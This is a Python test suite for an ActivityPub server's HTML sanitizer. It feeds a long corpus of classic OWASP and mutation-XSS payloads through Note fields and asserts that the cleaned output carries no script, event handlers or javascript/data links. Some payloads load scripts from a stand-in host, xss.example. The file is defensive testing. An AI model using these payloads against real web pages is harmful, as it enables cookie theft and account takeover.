"""Remote HTML is reduced to Mastodon's subset and can never carry script (A7, SECURITY.md 15).

The corpus mixes OWASP XSS filter-evasion classics with mutation-XSS (mXSS) payloads;
each is placed in a Note's ``content``, ``summary`` and ``name`` as a peer would send it,
parsed, then sanitised the way the node will (HTML fields with ``clean``, the name with
``clean_text``).  The output is re-parsed and checked element by element.
"""

from __future__ import annotations

import html
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from activitypub.sanitize import (
    ALLOWED_PROTOCOLS,
    ALLOWED_TAGS,
    HtmlSanitizer,
    clean_text,
    html_to_plain,
)
from activitypub.vocabulary import parse_object

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114">',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65">x</a>',
    '<a href="jav\tascript:alert(1);">tab</a>',
    '<a href="jav&#x09;ascript:alert(1);">tab entity</a>',
    '<a href="jav&#x0A;ascript:alert(1);">newline entity</a>',
    '<a href=" &#14;  javascript:alert(1);">leading junk</a>',
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=//xss.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=https://xss.example/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv"></EMBED>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="JAVASCRIPT:alert(1)" class="mention u-url">caps</a>',
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
    "<template><script>alert(1)</script></template>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<a href="https://ok.example/" style="position:fixed;top:0">overlay</a>',
    '<span class="invisible" onclick="alert(1)" style="color:red">x</span>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<audio src=x onerror=alert(1)>",
    '<a href="javas&#99;ript:alert(1)">entity in middle</a>',
    '<p>"><script>alert(1)</script></p>',
    "<h1 onclick=alert(1)>heading</h1>",
    '<ol start="1 onmouseover=alert(1)"><li value="javascript:alert(1)">x</li></ol>',
]

_DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")


class _Inspector(HTMLParser):
    """Records every element and attribute of sanitiser output."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs.extend((name, value or "") for name, value in attrs)


def assert_safe(output: str) -> None:
    inspector = _Inspector()
    inspector.feed(output)
    inspector.close()
    assert "<script" not in output.lower()
    assert set(inspector.tags) <= ALLOWED_TAGS, inspector.tags
    for name, value in inspector.attrs:
        assert not name.startswith("on"), (name, output)
        assert name not in {"style", "src", "srcdoc", "action", "formaction"}, (name, output)
        compact = "".join(value.split()).lower()
        assert not compact.startswith(_DANGEROUS_SCHEMES), (name, value)
        assert "javascript:" not in compact, (name, value)
        if name == "href":
            assert compact.split(":", 1)[0] in ALLOWED_PROTOCOLS, value


@pytest.fixture(scope="module")
def sanitizer() -> HtmlSanitizer:
    return HtmlSanitizer()


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_sanitizer_corpus_in_content_summary_and_name(
    sanitizer: HtmlSanitizer, payload: str
) -> None:
    note = parse_object(
        {
            "type": "Note",
            "id": "https://evil.example/notes/1",
            "content": f"<p>hello {payload} world</p>",
            "summary": payload,
            "name": payload,
            "attachment": [{"type": "Image", "url": "https://evil.example/i.png", "name": payload}],
        }
    )
    assert note.content is not None and note.summary is not None and note.name is not None
    assert_safe(sanitizer.clean(note.content))
    assert_safe(sanitizer.clean(note.summary))
    for plain in (note.name, note.attachments[0].name or ""):
        text = sanitizer.clean_text(plain)
        assert_safe(html.escape(text))  # plain text is escaped by whoever renders it
        assert "onerror=" not in text or "<" not in text


def test_mastodon_markup_survives_and_links_are_rewritten(sanitizer: HtmlSanitizer) -> None:
    source = (
        '<p><span class="h-card" translate="no"><a href="https://mastodon.social/@Mastodon" '
        'class="u-url mention" rel="me">@<span>Mastodon</span></a></span> '
        '<a href="https://ex.example/tags/cats" class="mention hashtag nope" rel="tag">#cats</a>'
        '<br><span class="invisible">https://</span><span class="ellipsis">ex.example</span>'
        "</p><pre><code>x = 1</code></pre><blockquote><p><del>old</del> <em>e</em> <strong>"
        "s</strong> <b>b</b> <i>i</i> <u>u</u></p></blockquote>"
        '<ol start="3" reversed><li value="5">five</li></ol><ul><li>a</li></ul>'
    )
    cleaned = sanitizer.clean(source)
    assert '<span class="h-card">' in cleaned  # translate dropped, class kept
    assert (
        '<a href="https://mastodon.social/@Mastodon" class="u-url mention" '
        'rel="nofollow noopener noreferrer" target="_blank">@<span>Mastodon</span></a>'
    ) in cleaned
    assert 'class="mention hashtag"' in cleaned  # "nope" is not an allowed class
    assert '<span class="invisible">https://</span>' in cleaned
    for fragment in ("<pre><code>", "<blockquote>", "<del>", '<ol start="3" reversed', '"5"'):
        assert fragment in cleaned
    assert_safe(cleaned)


def test_headings_become_bold_paragraphs_and_unknown_tags_are_stripped(
    sanitizer: HtmlSanitizer,
) -> None:
    cleaned = sanitizer.clean("<h2>Title</h2><div>text <img src=x> <table><tr><td>c</td></tr>")
    assert cleaned.startswith("<p><strong>Title</strong></p>")
    assert "<div" not in cleaned and "<img" not in cleaned and "<td" not in cleaned
    assert "text" in cleaned and "c" in cleaned


@pytest.mark.parametrize(
    ("href", "kept"),
    [
        ("https://a.example/", True),
        ("http://a.example/", True),
        ("gemini://a.example/", True),
        ("magnet:?xt=urn:btih:abc", True),
        ("xmpp:alice@a.example", True),
        ("ipfs://bafy", True),
        ("/relative/path", False),
        ("//a.example/protocol-relative", False),
        ("mailto:a@a.example", False),
        ("ftp://a.example/", False),
    ],
)
def test_link_schemes(sanitizer: HtmlSanitizer, href: str, kept: bool) -> None:
    cleaned = sanitizer.clean(f'<a href="{href}">x</a>')
    assert ("href=" in cleaned) is kept
    assert 'rel="nofollow noopener noreferrer" target="_blank"' in cleaned


def test_plain_text_helpers() -> None:
    assert clean_text("Tom &amp; <b>Jerry</b>\x00\n  :blobcat:") == "Tom & Jerry :blobcat:"
    assert clean_text("<script>alert(1)</script>Bob") == "Bob"
    plain = html_to_plain(
        "<p>Hello<br>world &amp; all</p><ul><li>one</li><li>two</li></ul><style>p{}</style>"
    )
    assert plain == "Hello\nworld & all\n\n- one\n- two"


FRAGMENTS = st.sampled_from(
    ["<", ">", "</", "script", "a", "img", "svg", "math", "style", "p", "span", " ", "=",
     '"', "'", "href", "src", "onerror", "onload", "javascript:", "&#106;", "&#x3A;",
     "alert(1)", "<!--", "-->", "class", "h-card", "/", "\n", "\t", "xmp", "template"]
)  # fmt: skip


@settings(max_examples=500, deadline=None)
@given(st.lists(FRAGMENTS, max_size=40).map("".join))
def test_sanitizer_output_is_always_safe(markup: str) -> None:
    sanitizer = HtmlSanitizer()
    assert_safe(sanitizer.clean(markup))
    assert_safe(html.escape(sanitizer.clean_text(markup)))


def test_one_cleaner_is_reused(sanitizer: HtmlSanitizer) -> None:
    cleaner = sanitizer._cleaner
    sanitizer.clean("<p>a</p>")
    sanitizer.clean("<p>b</p>")
    assert sanitizer._cleaner is cleaner
